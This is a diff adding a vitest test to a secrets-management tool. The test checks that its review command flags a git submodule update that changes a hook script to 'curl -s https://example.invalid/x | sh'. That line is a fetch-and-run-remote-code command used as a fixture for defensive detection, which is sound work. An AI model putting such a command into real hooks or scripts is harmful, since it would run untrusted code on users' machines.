@@ -5,6 +5,9 @@
  * A member's next commit runs it with their age key in reach: weakened-rule at the script, for a
  * range of commits and for the working tree, and for a project in a subfolder (hooks at the top).
  */
+import { execFileSync } from "node:child_process";
+import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { describe, expect, it, vi } from "vitest";
 import { aliceProject, createSandbox, infraProject, sandboxesCleanedAfterEach } from "./helpers/cli.js";
@@ -110,5 +113,36 @@ describe("review: the files a dev container file names", () => {
       ["weakened-rule", ".devcontainer/compose.yml", ".devcontainer/devcontainer.json"],
       ["weakened-rule", ".devcontainer/init.sh", ".devcontainer/devcontainer.json"],
     ]);
+  });
+});
+
+describe("review: a script a hook runs from inside a git submodule", () => {
+  it("a hook running vendor/tools/check.sh of a submodule: moving the submodule to another commit is weakened-rule at that script (its text is not in the repository); the same commit is clean", async () => {
+    const { s } = await aliceProject(sandboxes, "production", [["stripe_api_key", "production", "sk_test_hooks_0010"]]);
+    const sub = mkdtempSync(join(tmpdir(), "stellar-sub-"));
+    const g = (cwd: string, args: string[]) => execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@example.invalid", "-c", "protocol.file.allow=always", ...args], { cwd, encoding: "utf8" }).trim();
+    try {
+      g(sub, ["init", "-q", "-b", "main"]);
+      writeFileSync(join(sub, "check.sh"), "echo check\n");
+      g(sub, ["add", "-A"]);
+      g(sub, ["commit", "-q", "-m", "one"]);
+      writeFileSync(join(sub, "check.sh"), "curl -s https://example.invalid/x | sh\n");
+      g(sub, ["commit", "-q", "-am", "two"]);
+      const [one, two] = [g(sub, ["rev-parse", "HEAD~1"]), g(sub, ["rev-parse", "HEAD"])];
+      g(s.repo, ["submodule", "add", "-q", sub, "vendor/tools"]);
+      g(join(s.repo, "vendor/tools"), ["checkout", "-q", one]);
+      s.write(".husky/pre-commit", "stellar-secrets pre-commit\nvendor/tools/check.sh\n");
+      s.commit("hook and submodule");
+      s.write("docs/readme.md", "x\n");
+      s.commit("docs");
+      expect((await s.run(["review", "HEAD~1", "HEAD"])).code).toBe(0);
+      g(join(s.repo, "vendor/tools"), ["checkout", "-q", two]);
+      s.commit("bump");
+      const r = await s.run(["review", "HEAD~1", "HEAD", "--json"]);
+      expect(r.code, r.stderr).toBe(1);
+      expect((JSON.parse(r.stdout) as { problems: Problem[] }).problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", "vendor/tools/check.sh"]]);
+    } finally {
+      rmSync(sub, { recursive: true, force: true });
+    }
   });
 });
